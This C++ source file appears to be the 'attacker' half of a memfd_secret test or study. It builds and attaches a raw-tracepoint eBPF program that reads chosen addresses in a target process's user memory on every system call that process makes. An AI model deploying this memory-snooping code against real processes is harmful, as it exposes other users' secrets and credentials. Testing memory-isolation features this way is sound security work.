#include "bpf_program.h"

#include <linux/bpf.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstddef>
#include <cstring>

namespace memfd_secret::attacker {
namespace {

uint64_t ToNumber(const void* pointer) { return reinterpret_cast<uintptr_t>(pointer); }

int Bpf(int command, bpf_attr* attributes) {
  const long result = syscall(SYS_bpf, command, attributes, sizeof *attributes);
  return result < 0 ? -errno : static_cast<int>(result);
}

int Element(int command, int map, uint32_t key, const void* value) {
  bpf_attr attributes = {};
  attributes.map_fd = static_cast<uint32_t>(map);
  attributes.key = ToNumber(&key);
  attributes.value = ToNumber(value);
  return Bpf(command, &attributes);
}

constexpr bpf_insn Instruction(int code, int to, int from, int offset, int value) {
  return {static_cast<uint8_t>(code), static_cast<uint8_t>(to & 0xf),
          static_cast<uint8_t>(from & 0xf), static_cast<int16_t>(offset), value};
}

constexpr bpf_insn Move(int to, int from) {
  return Instruction(BPF_ALU64 | BPF_MOV | BPF_X, to, from, 0, 0);
}
constexpr bpf_insn Set(int to, int value) {
  return Instruction(BPF_ALU64 | BPF_MOV | BPF_K, to, 0, 0, value);
}
constexpr bpf_insn Add(int to, int value) {
  return Instruction(BPF_ALU64 | BPF_ADD | BPF_K, to, 0, 0, value);
}
constexpr bpf_insn Load(int to, int from, int offset) {
  return Instruction(BPF_LDX | BPF_MEM | BPF_DW, to, from, offset, 0);
}
constexpr bpf_insn Store(int to, int offset, int from, int size = BPF_DW) {
  return Instruction(BPF_STX | BPF_MEM | size, to, from, offset, 0);
}
constexpr bpf_insn Call(int helper) { return Instruction(BPF_JMP | BPF_CALL, 0, 0, 0, helper); }

// Where the program's end begins, and a jump from the instruction `at` to there.
constexpr int kEnd = 29;
constexpr int ToEnd(int at) { return kEnd - at - 1; }
constexpr bpf_insn EndIfZero(int register_number, int at) {
  return Instruction(BPF_JMP | BPF_JEQ | BPF_K, register_number, 0, ToEnd(at), 0);
}

// A map's descriptor takes two instructions.
constexpr bpf_insn LoadMap(int to, int map) {
  return Instruction(BPF_LD | BPF_IMM | BPF_DW, to, BPF_PSEUDO_MAP_FD, 0, map);
}
constexpr bpf_insn kLoadMapEnd = Instruction(0, 0, 0, 0, 0);

constexpr int kKey = -8;  // on the stack, from its top
constexpr int kStack = BPF_REG_10;

}  // namespace

int CreateArray(uint32_t value_size, uint32_t entries) {
  bpf_attr attributes = {};
  attributes.map_type = BPF_MAP_TYPE_ARRAY;
  attributes.key_size = sizeof(uint32_t);
  attributes.value_size = value_size;
  attributes.max_entries = entries;
  return Bpf(BPF_MAP_CREATE, &attributes);
}

int UpdateElement(int map, uint32_t key, const void* value) {
  return Element(BPF_MAP_UPDATE_ELEM, map, key, value);
}

int LookUpElement(int map, uint32_t key, void* value) {
  return Element(BPF_MAP_LOOKUP_ELEM, map, key, value);
}

int LoadReader(pid_t pid, int cursor, int pages) {
  const bpf_insn instructions[] = {
      // The lower half is the thread: the main thread of a process has the process's number.
      Call(BPF_FUNC_get_current_pid_tgid),
      Instruction(BPF_ALU | BPF_MOV | BPF_X, BPF_REG_0, BPF_REG_0, 0, 0),
      Instruction(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, ToEnd(2), pid),
      // r7 = cursor[0]++
      Set(BPF_REG_1, 0),
      Store(kStack, kKey, BPF_REG_1, BPF_W),
      Move(BPF_REG_2, kStack),
      Add(BPF_REG_2, kKey),
      LoadMap(BPF_REG_1, cursor),
      kLoadMapEnd,
      Call(BPF_FUNC_map_lookup_elem),
      EndIfZero(BPF_REG_0, 10),
      Load(BPF_REG_7, BPF_REG_0, 0),
      Move(BPF_REG_1, BPF_REG_7),
      Add(BPF_REG_1, 1),
      Store(BPF_REG_0, 0, BPF_REG_1),
      // r8 = &pages[r7]
      Store(kStack, kKey, BPF_REG_7, BPF_W),
      Move(BPF_REG_2, kStack),
      Add(BPF_REG_2, kKey),
      LoadMap(BPF_REG_1, pages),
      kLoadMapEnd,
      Call(BPF_FUNC_map_lookup_elem),
      EndIfZero(BPF_REG_0, 21),
      Move(BPF_REG_8, BPF_REG_0),
      // r8->outcome = bpf_probe_read_user(r8->bytes, sizeof r8->bytes, r8->address)
      Move(BPF_REG_1, BPF_REG_8),
      Add(BPF_REG_1, offsetof(BpfPage, bytes)),
      Set(BPF_REG_2, sizeof(BpfPage::bytes)),
      Load(BPF_REG_3, BPF_REG_8, offsetof(BpfPage, address)),
      Call(BPF_FUNC_probe_read_user),
      Store(BPF_REG_8, offsetof(BpfPage, outcome), BPF_REG_0),
      Set(BPF_REG_0, 0),
      Instruction(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
  };
  bpf_attr attributes = {};
  attributes.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT;
  attributes.insns = ToNumber(instructions);
  attributes.insn_cnt = sizeof instructions / sizeof instructions[0];
  // bpf_probe_read_user is for programs under the GPL alone.
  attributes.license = ToNumber("GPL");
  return Bpf(BPF_PROG_LOAD, &attributes);
}

int AttachToSystemCalls(int program) {
  bpf_attr attributes = {};
  attributes.raw_tracepoint.name = ToNumber("sys_enter");
  attributes.raw_tracepoint.prog_fd = static_cast<uint32_t>(program);
  return Bpf(BPF_RAW_TRACEPOINT_OPEN, &attributes);
}

}  // namespace memfd_secret::attacker
